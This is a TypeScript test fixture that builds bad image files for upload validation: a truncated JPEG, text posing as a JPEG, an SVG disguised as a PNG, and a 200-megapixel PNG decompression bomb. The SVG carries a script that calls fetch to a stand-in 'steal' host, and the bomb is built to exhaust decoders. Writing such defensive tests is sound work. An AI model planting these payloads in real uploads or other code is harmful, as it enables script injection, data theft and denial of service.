/** Pictures that are not what they say, made fresh for each run. */
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

export interface BadPicture {
  readonly what: string
  readonly fileName: string
  readonly mediaType: string
  readonly bytes: Uint8Array
}

const scriptInSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">
<script>fetch('https://example.invalid/steal')</script><rect width="40" height="40"/></svg>`

/** A real picture, for comparison and to be damaged. */
export const aPicture = (width = 640, height = 400): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: { r: 40, g: 90, b: 140 } } })
    .jpeg({ quality: 80 })
    .toBuffer()

function pngChunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, checksum])
}

/** 200 megapixels of black, one bit each: 25 KB to send, ruinous to decode. */
function tooManyPixels(): Buffer {
  const [width, height] = [20_000, 10_000]
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  // Bit depth 1, greyscale; compression, filter and interlace as usual.
  header.writeUInt8(1, 8)
  const rows = Buffer.alloc((width / 8 + 1) * height)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', new Uint8Array()),
  ])
}

/** Noise, so that cutting the file off really takes part of the picture away. */
async function truncated(): Promise<Buffer> {
  const whole = await sharp({
    create: {
      width: 640,
      height: 400,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg({ quality: 90 })
    .toBuffer()
  return whole.subarray(0, Math.floor(whole.length / 3))
}

/** Every kind that a desk and a server must refuse. */
export async function badPictures(): Promise<BadPicture[]> {
  return [
    {
      what: 'a truncated JPEG',
      fileName: 'half.jpg',
      mediaType: 'image/jpeg',
      bytes: new Uint8Array(await truncated()),
    },
    {
      what: 'a text that calls itself a JPEG',
      fileName: 'letter.jpg',
      mediaType: 'image/jpeg',
      bytes: new TextEncoder().encode('Dear editor, this is no picture. '.repeat(40)),
    },
    {
      what: 'an SVG with a script that calls itself a PNG',
      fileName: 'drawing.png',
      mediaType: 'image/png',
      bytes: new TextEncoder().encode(scriptInSvg),
    },
    {
      what: 'a PNG of 200 megapixels',
      fileName: 'wall.png',
      mediaType: 'image/png',
      bytes: new Uint8Array(tooManyPixels()),
    },
  ]
}
